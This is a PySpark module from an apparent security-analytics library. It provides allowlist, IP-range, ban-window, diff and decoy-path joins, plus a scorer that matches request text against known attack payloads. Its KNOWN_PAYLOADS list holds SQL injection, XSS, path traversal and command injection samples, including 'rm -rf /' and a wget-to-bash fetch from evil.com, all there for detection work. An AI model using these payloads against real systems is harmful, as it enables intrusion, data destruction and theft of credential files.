"""Address, allowlist, interval and snapshot joins."""

from __future__ import annotations

from collections.abc import Sequence
from functools import reduce

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from tracewarden.functions.text import RATIO_FEATURES, structural_features
from tracewarden.operators.timeline import DAY, running, sliding_sums
from tracewarden.rulesets import literal



def url_allowlist(df: DataFrame, url: str, exact: DataFrame, prefixes: Sequence[str], patterns: Sequence[str]) -> DataFrame:
    """Rows whose URL no allowlist entry covers.

    ``exact`` is a table with the column ``url`` of any size; prefixes and patterns are
    settings of an operator, compiled into the filter.
    """
    rest = df
    for p in prefixes:
        rest = rest.filter(~F.col(url).startswith(p))
    if patterns:
        rest = rest.filter(~F.col(url).rlike("|".join(f"(?:{p})" for p in patterns)))
    return rest.join(exact.select(F.col("url").alias(url)).distinct(), url, "left_anti")


#: Levels of dyadic blocks: a block of level L holds 2^L numbers.
LEVELS = 62


def dyadic_blocks(ranges: DataFrame) -> DataFrame:
    """The ranges (start, end) as blocks (level, prefix) of numbers that share all bits above the level.

    A range is two blocks a level at most, however long it is; no block lies in another of its range.
    """
    level = F.sequence(F.lit(0), F.lit(LEVELS))

    def of(k: Column) -> Column:
        first = -F.call_function("shiftright", -F.col("start").cast("bigint"), k)
        after = F.call_function("shiftright", F.col("end").cast("bigint") + 1, k)
        odd = lambda x: F.pmod(x, F.lit(2)) == 1
        some = first < after
        return F.array(F.when(some & odd(first), F.struct(k.alias("level"), first.alias("prefix"))), F.when(some & odd(after), F.struct(k.alias("level"), (after - 1).alias("prefix"))))

    found = F.explode(F.array_compact(F.flatten(F.transform(level, of))))
    return ranges.filter(F.col("start") <= F.col("end")).withColumn("_b", found).select("*", "_b.level", "_b.prefix").drop("_b")


def _met(df: DataFrame, number: str, blocks: DataFrame, coarse: int) -> DataFrame:
    """(n, columns of the block) for every distinct number and every block that holds it.

    ``blocks`` has each (level, prefix) once, so a number meets a block a level at most. Blocks of a
    level of which there can be no more than ``coarse`` hold many numbers each, but are few, and are
    broadcast; all others are joined by level and prefix.
    """
    n = df.select(F.col(number).cast("bigint").alias("n")).filter(F.col("n").isNotNull()).distinct()
    known = blocks.groupBy("level").agg(F.max(F.abs("prefix")).alias("most")).collect()
    few = sorted(r["level"] for r in known if r["most"] < coarse)
    many = sorted(r["level"] for r in known if r["most"] >= coarse)
    out = None
    for levels, side in ((few, lambda b: F.broadcast(b)), (many, lambda b: b)):
        if levels:
            at = F.explode(F.array(*[F.struct(F.lit(k).alias("level"), F.shiftright("n", k).alias("prefix")) for k in levels])).alias("_b")
            hit = n.select("n", at).select("n", "_b.*").join(side(blocks.filter(F.col("level").isin(levels))), ["level", "prefix"])
            out = hit if out is None else out.unionByName(hit)
    return n.join(blocks, F.lit(False)) if out is None else out


def range_lookup(df: DataFrame, number: str, ranges: DataFrame, coarse: int = 1024) -> DataFrame:
    """Adds ``value`` of the last listed range (start, end, value, seq) that holds the number.

    Ranges may overlap and nest at will: they are cut into dyadic blocks, and equal blocks are one
    before any number is looked up.
    """
    last = dyadic_blocks(ranges).groupBy("level", "prefix").agg(F.max(F.struct("seq", "value")).alias("_last"))
    best = _met(df, number, last, coarse).groupBy("n").agg(F.max("_last").alias("_last")).select("n", "_last.value")
    return df.join(best.withColumnRenamed("n", number), number, "left")


def in_ranges(df: DataFrame, number: str, ranges: DataFrame, keep: bool = True, coarse: int = 1024) -> DataFrame:
    """Rows whose number lies in some range (start, end), or in none."""
    hit = _met(df, number, dyadic_blocks(ranges.select("start", "end")).select("level", "prefix").distinct(), coarse)
    return df.join(hit.select(F.col("n").alias(number)).distinct(), number, "left_semi" if keep else "left_anti")


def under_ban(df: DataFrame, key: str, t: str, tie: str, bans: DataFrame, allowed: DataFrame, piece: int = DAY) -> DataFrame:
    """Rows made while a ban of their key was in force, allowlisted keys left out.

    ``bans`` has (key, start, expire). Starts count up, ends count down, and a row is under
    ban while the key's running total is above zero; no row meets its bans pairwise.
    """
    open_ = bans.select(key, F.col("start").alias(t), F.lit(1).alias("_d"))
    close = bans.filter(F.col("expire").isNotNull()).select(key, F.col("expire").alias(t), F.lit(-1).alias("_d"))
    marks = open_.unionByName(close).withColumn("_o", F.struct(F.lit(0).alias("k"), F.lit(0).cast("bigint").alias("i")))
    rows = df.withColumn("_d", F.lit(0)).withColumn("_o", F.struct(F.lit(1).alias("k"), F.col(tie).cast("bigint").alias("i")))
    both = rows.unionByName(marks, allowMissingColumns=True)
    run = running(both, [key], t, "_o", {"_open": ("sum", F.col("_d").cast("bigint"))}, piece)
    return run.filter((F.col("_o.k") == 1) & (F.col("_open") > 0)).select(*df.columns).join(allowed.select(key).distinct(), key, "left_anti")


def snapshot_diff(old: DataFrame, new: DataFrame, path: str, digest: str) -> DataFrame:
    """Every path of two inventories as added, removed, changed, same, or unverified where a digest is missing."""
    a = old.select(path, F.col(digest).alias("_a"), F.lit(True).alias("_in_a"))
    b = new.select(path, F.col(digest).alias("_b"), F.lit(True).alias("_in_b"))
    status = (
        F.when(F.col("_in_a").isNull(), "added").when(F.col("_in_b").isNull(), "removed").when(F.col("_a").isNull() | F.col("_b").isNull(), "unverified")
        .when(F.col("_a") != F.col("_b"), "changed").otherwise("same")
    )
    return a.join(b, path, "full_outer").select(path, status.alias("status"))


def line_diff(old: DataFrame, new: DataFrame, key: Sequence[str], text: str) -> DataFrame:
    """Lines of one version without an equal trimmed line in the other, by key."""
    def lines(df):
        d = df.select(*key, F.posexplode(F.split(text, "\n")).alias("pos", "line"))
        return d.select(*key, (F.col("pos") + 1).alias("line_no"), "line", F.md5(F.trim("line")).alias("_h"))

    a, b = lines(old), lines(new)
    on = [*key, "_h"]
    return b.join(a.select(*on).distinct(), on, "left_anti").withColumn("change", F.lit("added")).unionByName(
        a.join(b.select(*on).distinct(), on, "left_anti").withColumn("change", F.lit("removed"))).drop("_h")


def decoy_hits(df: DataFrame, key: str, t: str, uri: str, decoys: Sequence[str], window: int = DAY) -> DataFrame:
    """Requests for decoy paths and how many the key made in the trailing window."""
    shape = "(?i)^(?:" + "|".join(literal(d) for d in decoys) + r")(?:$|\?|/)"
    return sliding_sums(df.filter(F.col(uri).rlike(shape)), [key], t, {"recent": (window, F.lit(1))}, piece=window)


def endpoint_coverage(df: DataFrame, key: str, endpoint: str, known: DataFrame) -> DataFrame:
    """Share of the known endpoints that each key has visited."""
    k = known.select(endpoint).distinct()
    seen = df.select(key, endpoint).distinct().join(k, endpoint, "left_semi").groupBy(key).agg(F.count("*").alias("visited"))
    return seen.withColumn("coverage", F.col("visited") / k.agg(F.count("*")).scalar())


def pattern_similarity(df: DataFrame, ids: Sequence[str], text: str, patterns: Sequence[tuple[str, str, str]], weights: dict[str, float], least: float = 0.5) -> DataFrame:
    """Best similarity per family of a text's structural features to those of known payloads.

    ``patterns`` are (family, name, payload). The payloads' features are constants of the expression;
    a text's feature row is computed once. A feature that a payload lacks and that is no share adds
    the same to each comparison, so that part is summed once a text, and a payload's own terms are
    those of the features that it has. Only the best payload of a family leaves the row.
    """
    names = list(structural_features(F.lit("")))
    w = {n: float(weights.get(n, 1)) for n in names}
    payloads = df.sparkSession.createDataFrame([(i, p) for i, (_, _, p) in enumerate(patterns)], "i int, t string")
    known = {r["i"]: r for r in payloads.select("i", *[c.cast("double").alias(n) for n, c in structural_features(F.col("t")).items()]).collect()}

    def a(n: str) -> Column:
        return F.col(f"_f_{n}")

    def added(terms: list[Column]) -> Column:
        return reduce(lambda x, y: x + y, terms, F.lit(0.0))

    def similarity(b) -> Column:
        m, t = [], [F.col("_all")]
        for n in names:
            if n in RATIO_FEATURES:
                like = (1 - F.least(F.lit(1.0), F.abs(a(n) - b[n]) / F.greatest(a(n), F.lit(max(b[n], 1.0))))) * w[n]
                m.append(F.when(a(n) != 0, like).otherwise(0.0))
            elif b[n] > 0:
                m.append(F.when(a(n) == b[n], F.lit(w[n])).otherwise(0.0))
            if b[n] > 0:  # else a text without the feature adds nothing
                t.append(F.when((a(n) > 0) | ((a(n) != 0) & F.lit(n in RATIO_FEATURES)), 0.0).otherwise(w[n]))
        total = added(t)
        return F.when(total > 0, added(m) / total).otherwise(0.0)

    feats = {f"_f_{n}": c.cast("double") for n, c in structural_features(F.col(text)).items()}
    every = added([F.when((a(n) != 0) if n in RATIO_FEATURES else (a(n) > 0), F.lit(w[n])).otherwise(0.0) for n in names])
    d = df.select(*ids, *[c.alias(n) for n, c in feats.items()]).withColumn("_all", every)
    best = []
    for family in dict.fromkeys(f for f, _, _ in patterns):
        own = [F.struct(similarity(known[i]).alias("similarity"), F.lit(name).alias("pattern")) for i, (f, name, _) in enumerate(patterns) if f == family]
        best.append(F.struct(F.lit(family).alias("family"), F.array_max(F.array(*own)).alias("m")))
    scored = d.select(*ids, F.explode(F.array(*best)).alias("s")).select(*ids, "s.family", "s.m").filter(F.col("m.similarity") >= least)
    return scored.groupBy(*ids, "family").agg(F.max("m").alias("m")).select(*ids, "family", "m.similarity", "m.pattern")


# Known payloads by family, whose feature rows are the patterns.
KNOWN_PAYLOADS = [
    ("sql_injection", "or_tautology", "1' OR '1'='1"), ("sql_injection", "union_select", "' UNION SELECT 1,2,3--"),
    ("sql_injection", "blind_time", "1' AND SLEEP(5)--"),
    ("sql_injection", "error_based", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT table_name FROM information_schema.tables LIMIT 1),"
     "FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--"),
    ("sql_injection", "boolean_blind", "1' AND 1=2--"), ("sql_injection", "arithmetic_tautology", "5-5=0"),
    ("xss", "img_onerror", "<img src=x onerror=alert(1)>"), ("xss", "script_tag", "<script>alert(1)</script>"),
    ("xss", "javascript_protocol", '<a href="javascript:alert(1)">'), ("xss", "svg_onload", "<svg onload=alert(1)>"),
    ("xss", "body_onload", "<body onload=alert(1)>"), ("xss", "eval_string", "eval('alert(1)')"),
    ("path_traversal", "simple_etc_passwd", "../../../etc/passwd"), ("path_traversal", "url_encoded", "..%2f..%2f..%2fetc%2fshadow"),
    ("path_traversal", "double_encoded", "%252e%252e%252fetc%252fpasswd"), ("path_traversal", "windows_boot_ini", "..\\..\\..\\Windows\\win.ini"),
    ("path_traversal", "web_config", "../../config.php"),
    ("command_injection", "semicolon_cat", "127.0.0.1; cat /etc/passwd"), ("command_injection", "pipe_ls", "127.0.0.1 | ls -la"),
    ("command_injection", "backtick_id", "`id`"), ("command_injection", "dollar_paren", "$(whoami)"),
    ("command_injection", "and_rm", "127.0.0.1 && rm -rf /"), ("command_injection", "wget_pipe_bash", "wget http://evil.com/shell.sh | bash"),
    ("command_injection", "sleep_blind", "127.0.0.1; sleep 5"),
]
# Weights of the features in the comparison, 1 for all others.
FEATURE_WEIGHTS = {
    "has_or_keyword": 5, "has_and_keyword": 5, "has_union": 6, "has_select": 6, "has_script": 8, "has_img": 4, "has_onerror": 6,
    "has_javascript": 7, "has_eval": 7, "has_alert": 5, "has_backtick": 6, "has_dollar_paren": 6, "has_double_dash": 4,
    "has_etc_passwd": 8, "has_etc_shadow": 9, "dotdot_count": 6, "has_rm": 8, "has_cat": 5, "has_wget": 7, "has_curl": 7, "has_bash": 8,
    "semicolon_count": 5, "pipe_count": 5, "tag_count": 5, "has_like": 3, "has_where": 4, "has_from": 4, "has_config_php": 7,
    "quote_count": 4, "paren_count": 3, "has_pipe_chain": 6, "special_ratio": 4, "keyword_density": 5, "has_htaccess": 6,
}
